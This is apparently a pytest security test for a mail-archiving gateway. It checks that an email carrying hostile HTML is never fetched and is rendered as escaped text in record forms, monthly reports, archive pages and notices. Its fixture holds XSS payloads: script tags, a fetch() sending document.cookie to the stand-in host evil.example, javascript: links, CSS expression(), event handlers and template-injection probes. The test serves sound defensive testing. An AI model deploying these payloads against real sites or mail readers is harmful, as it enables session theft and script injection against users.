"""Hostile HTML in incoming mail: never fetched or run, escaped in every page we render.

A mail carrying scripts, remote images, ``javascript:`` links, CSS ``url()`` and markup in its
Subject and sender name goes through SMTP and the whole pipeline while any network call other
than the test's own SMTP connection fails the test. Then the key communication record form,
the monthly report, the archive's pages and the ``record_cc`` notice must show the markup as
text: no live tag, attribute or URL of the attacker's survives.
"""

from __future__ import annotations

import re
import socket
import urllib.request
import zipfile
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from gateway.app import App
from gateway.notify import notices
from gateway.records.record_cc import record_context
from gateway.store.db import unit_of_work
from gateway.store.models import Record
from tests.security.helpers import LINA, LIUYANG, PROJECT, outbox, parse_bytes, send, settled

TAG = "<script>alert('subject')</script>"
HTML = """<html><head><style>body { background: url(http://evil.example/bg.png) }
@import url("http://evil.example/x.css");</style>
<script>fetch('http://evil.example/steal?c='+document.cookie)</script></head>
<body onload="alert(1)"><p>请于今晚完成巡检，完成后回复确认。</p>
<img src="http://evil.example/track.png" width=1 height=1>
<a href="javascript:alert(document.domain)">点击查看</a>
<a href="http://evil.example/login" style="background:url(http://evil.example/a.png)">登录</a>
<div style="width: expression(alert(1))">x</div>
<svg onload="alert(2)"><image href="http://evil.example/svg.png"/></svg>
<iframe src="http://evil.example/frame"></iframe>
<p>&lt;script&gt;alert("escaped")&lt;/script&gt; {{ 7*7 }} ${7*7}</p></body></html>"""

class Live(HTMLParser):
    """Every live tag, attribute or style of the attacker's in a page (text is not live)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "iframe", "object", "embed", "frame", "base"):
            self.found.append(f"<{tag}>")
        self.in_style = tag == "style"
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}=")
            if name in ("href", "src", "action", "background") and (
                    value.startswith("javascript:") or "evil.example" in value):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and ("url(" in value or "expression(" in value):
                self.found.append(f"{tag} style={value}")

    def handle_endtag(self, tag: str) -> None:
        self.in_style = False

    def handle_data(self, data: str) -> None:
        if self.in_style and "evil.example" in data:
            self.found.append(f"<style>{data[:60]}")


def assert_inert(html: str, where: str) -> None:
    live = Live()
    live.feed(html)
    live.close()
    assert live.found == [], where
    assert not re.search(r"(?<![\d.])49(?![\d.])", html) or "7*7" in html, f"{where}: template ran"


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """Any connection but to the gateway's own loopback listener is recorded (and refused)."""
    calls: list[Any] = []
    real = socket.create_connection

    def guarded(address: Any, *args: Any, **kwargs: Any) -> socket.socket:
        if address[0] == "127.0.0.1":
            return real(address, *args, **kwargs)
        calls.append(address)
        raise OSError(f"network call during processing: {address}")

    def urlopen(*args: Any, **kwargs: Any) -> Any:
        calls.append(args)
        raise OSError("urlopen during processing")

    monkeypatch.setattr(socket, "create_connection", guarded)
    monkeypatch.setattr(urllib.request, "urlopen", urlopen)
    return calls


def hostile_mail() -> bytes:
    return (f'From: "{TAG} 李娜" <{LINA}>\r\nTo: {LIUYANG}\r\nCc: {PROJECT}\r\n'
            f"Subject: 【指令】巡检 {TAG} <img src=http://evil.example/s.png>\r\n"
            "Date: Tue, 24 Nov 2026 10:00:00 +0800\r\n"
            "Message-ID: <hostile-html@xdyj.example.com>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: 8bit\r\n'
            "\r\n" + HTML.replace("\n", "\r\n") + "\r\n").encode()


def test_hostile_html_is_never_fetched_and_always_escaped(
        app: App, serve: Callable[..., int], cli: Callable[..., Any], tmp_path: Path,
        no_network: list[Any]) -> None:
    port = serve(app)
    send(port, hostile_mail())
    stored = settled(app, 1)
    assert stored[0].state == "processed", stored[0].error
    with unit_of_work(app.sessions) as session:
        record_id = session.scalars(select(Record.id)).one()

    # the key communication record form, HTML and text
    cli("records", "form", str(record_id), "--project", "demo", "--out", str(tmp_path / "f.html"))
    form = (tmp_path / "f.html").read_text(encoding="utf-8")
    assert_inert(form, "record form")
    assert "&lt;script&gt;" in form  # the subject is there, as text

    # the monthly report
    cli("report", "monthly", "--project", "demo", "--period", "2026-11",
        "--out", str(tmp_path / "r.html"))
    assert_inert((tmp_path / "r.html").read_text(encoding="utf-8"), "monthly report")

    # the archive: index.html and every other page
    cli("archive", "export", "--project", "demo", "--out", str(tmp_path / "a.zip"))
    with zipfile.ZipFile(tmp_path / "a.zip") as archive:
        pages = [n for n in archive.namelist() if n.endswith(".html")]
        assert any(n.endswith("index.html") for n in pages), archive.namelist()
        for name in pages:
            assert_inert(archive.read(name).decode("utf-8"), f"archive {name}")

    # the record_cc notice, as rendered and as queued
    project = app.settings.project("demo")
    with unit_of_work(app.sessions) as session:
        rec, everyone, refs = record_context(session, project, record_id)
    prepared = notices.prepare(app.settings, project, kind="record_cc", sender="", to=everyone,
                               values={"record": str(record_id)}, record=rec,
                               record_id=record_id, references=refs)
    for rendered in prepared.rendered:
        assert_inert(rendered.html, "record_cc rendered")
    notices.send(app, prepared, project=project, now=app.clock())
    for mail in outbox(app):
        for part in parse_bytes(mail["raw"]).walk():
            if part.get_content_type() == "text/html":
                assert_inert(part.get_content(), f"outbox {mail['kind']}")
    assert no_network == []
